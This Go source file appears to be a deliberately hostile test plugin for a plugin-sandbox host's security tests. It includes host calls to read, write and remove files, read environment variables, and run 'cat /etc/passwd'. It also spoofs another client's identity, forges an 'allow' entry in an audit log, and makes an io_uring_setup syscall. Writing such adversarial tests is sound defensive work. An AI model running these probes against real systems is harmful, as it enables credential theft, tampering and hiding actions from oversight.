// Command attacker-plugin is a hostile go-plugin Go plugin for the security
// tests. It implements go-plugin's example KV contract ("kv_grpc"), but Get
// does not look anything up: its key names a host call, "<method>:<path>",
// optionally after "claim=<client id>;" to put that id in the call's
// x-hst-client-id metadata, as if it were someone else. The call goes to the
// hst host's services over the broker, and whatever the host refuses comes
// back as the host's own gRPC status, so the test sees the code and message.
//
// Keys "os-read:<path>", "os-append:<path>" and "os-syscall:io_uring_setup"
// ask no host at all: the plugin reads or appends to a host file, or makes
// the system call, itself, where only the OS sandbox stands in the way.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"syscall"
	"unsafe"

	"github.com/hashicorp/go-plugin"
	"github.com/hashicorp/go-plugin/examples/grpc/proto"
	"github.com/hashicorp/go-plugin/examples/grpc/shared"
	"google.golang.org/grpc"
	"google.golang.org/grpc/metadata"

	hostv1 "hst.local/sdk/gen/hst/host/v1"
	"hst.local/sdk/hostconn"
)

type attacker struct {
	proto.UnimplementedKVServer
	link *hostconn.Link
}

// Put is not an attack; the contract only needs Get.
func (a *attacker) Put(context.Context, *proto.PutRequest) (*proto.Empty, error) {
	return nil, errors.New("attacker-plugin: Put is not used")
}

// Get makes the host call its key names and returns what came back.
func (a *attacker) Get(ctx context.Context, req *proto.GetRequest) (*proto.GetResponse, error) {
	if direct, target, found := strings.Cut(req.Key, ":"); found && strings.HasPrefix(direct, "os-") {
		value, err := reachOut(direct, target)
		if err != nil {
			return nil, err
		}
		return &proto.GetResponse{Value: value}, nil
	}
	conn, err := a.link.Conn(ctx)
	if err != nil {
		return nil, err
	}
	key := req.Key
	if rest, ok := strings.CutPrefix(key, "claim="); ok {
		claim, call, found := strings.Cut(rest, ";")
		if !found {
			return nil, fmt.Errorf("attacker-plugin: %q: claim=<id>; must precede the call", key)
		}
		ctx = metadata.AppendToOutgoingContext(ctx, "x-hst-client-id", claim)
		key = call
	}
	method, path, found := strings.Cut(key, ":")
	if !found {
		return nil, fmt.Errorf("attacker-plugin: %q is not <method>:<path>", key)
	}
	value, err := call(ctx, conn, method, path)
	if err != nil {
		return nil, err
	}
	return &proto.GetResponse{Value: value}, nil
}

// call makes one host call on path and renders its answer as bytes.
func call(ctx context.Context, conn *grpc.ClientConn, method, path string) ([]byte, error) {
	fs := hostv1.NewFilesystemClient(conn)
	switch method {
	case "readFile":
		res, err := fs.ReadFile(ctx, &hostv1.ReadFileRequest{Path: path})
		if err != nil {
			return nil, err
		}
		return res.Data, nil
	case "writeFile":
		_, err := fs.WriteFile(ctx, &hostv1.WriteFileRequest{Path: path, Data: []byte("pwned by a Go plugin")})
		return []byte("written"), err
	case "stat":
		res, err := fs.Stat(ctx, &hostv1.StatRequest{Path: path})
		if err != nil {
			return nil, err
		}
		return []byte(fmt.Sprintf("%s %d", res.Info.GetPath(), res.Info.GetSize())), nil
	case "readDir":
		res, err := fs.ReadDir(ctx, &hostv1.ReadDirRequest{Path: path})
		if err != nil {
			return nil, err
		}
		names := make([]string, 0, len(res.Entries))
		for _, e := range res.Entries {
			names = append(names, e.GetPath())
		}
		return []byte(strings.Join(names, "\n")), nil
	case "remove":
		_, err := fs.Remove(ctx, &hostv1.RemoveRequest{Path: path})
		return []byte("removed"), err
	case "readFileStream":
		stream, err := fs.ReadFileStream(ctx, &hostv1.ReadFileStreamRequest{Path: path})
		if err != nil {
			return nil, err
		}
		var out []byte
		for {
			msg, err := stream.Recv()
			if errors.Is(err, io.EOF) {
				return out, nil
			}
			if err != nil {
				return nil, err
			}
			out = append(out, msg.Data...)
		}
	case "walk":
		stream, err := fs.Walk(ctx, &hostv1.WalkRequest{Path: path})
		if err != nil {
			return nil, err
		}
		var names []string
		for {
			msg, err := stream.Recv()
			if errors.Is(err, io.EOF) {
				return []byte(strings.Join(names, "\n")), nil
			}
			if err != nil {
				return nil, err
			}
			names = append(names, msg.Entry.GetPath())
		}
	case "open":
		handles := hostv1.NewFileHandlesClient(conn)
		res, err := handles.Open(ctx, &hostv1.OpenRequest{Path: path, Read: true})
		if err != nil {
			return nil, err
		}
		read, err := handles.Read(ctx, &hostv1.ReadRequest{Handle: res.Handle, N: 4096})
		if err != nil {
			return nil, err
		}
		return read.Data, nil
	case "readHandle":
		read, err := hostv1.NewFileHandlesClient(conn).Read(ctx, &hostv1.ReadRequest{Handle: path, N: 4096})
		if err != nil {
			return nil, err
		}
		return read.Data, nil
	case "getEnv":
		res, err := hostv1.NewEnvironmentClient(conn).GetEnv(ctx, &hostv1.GetEnvRequest{Name: path})
		if err != nil {
			return nil, err
		}
		return []byte(res.Value), nil
	case "exec":
		res, err := hostv1.NewProcessesClient(conn).Exec(ctx, &hostv1.ExecRequest{Program: path, Args: []string{"-c", "cat /etc/passwd"}})
		if err != nil {
			return nil, err
		}
		return res.Stdout, nil
	}
	return nil, fmt.Errorf("attacker-plugin: unknown method %q", method)
}

// ioUringSetup is the syscall's number on both x86_64 and arm64.
const ioUringSetup = 425

// reachOut is an attack without host services.
func reachOut(attack, target string) ([]byte, error) {
	switch attack {
	case "os-read":
		return os.ReadFile(target)
	case "os-append":
		f, err := os.OpenFile(target, os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		line := `{"plugin":"victim","op":"Filesystem/ReadFile","decision":"allow","rule":"forged"}` + "\n"
		if _, err := f.WriteString(line); err != nil {
			return nil, err
		}
		return []byte("appended"), nil
	case "os-syscall":
		if target != "io_uring_setup" {
			return nil, fmt.Errorf("attacker-plugin: no syscall attack %q", target)
		}
		var params [120]byte // struct io_uring_params, zeroed
		fd, _, errno := syscall.Syscall(ioUringSetup, 1, uintptr(unsafe.Pointer(&params[0])), 0)
		if errno != 0 {
			return nil, fmt.Errorf("io_uring_setup: %w", errno)
		}
		syscall.Close(int(fd))
		return []byte("io_uring ring created"), nil
	}
	return nil, fmt.Errorf("attacker-plugin: unknown direct attack %q", attack)
}

func main() {
	link := hostconn.New()
	plugin.Serve(&plugin.ServeConfig{
		HandshakeConfig: shared.Handshake,
		Plugins:         plugin.PluginSet{"kv_grpc": link.Plugin("attacker-plugin", func(s *grpc.Server) { proto.RegisterKVServer(s, &attacker{link: link}) })},
		GRPCServer:      plugin.DefaultGRPCServer,
	})
}
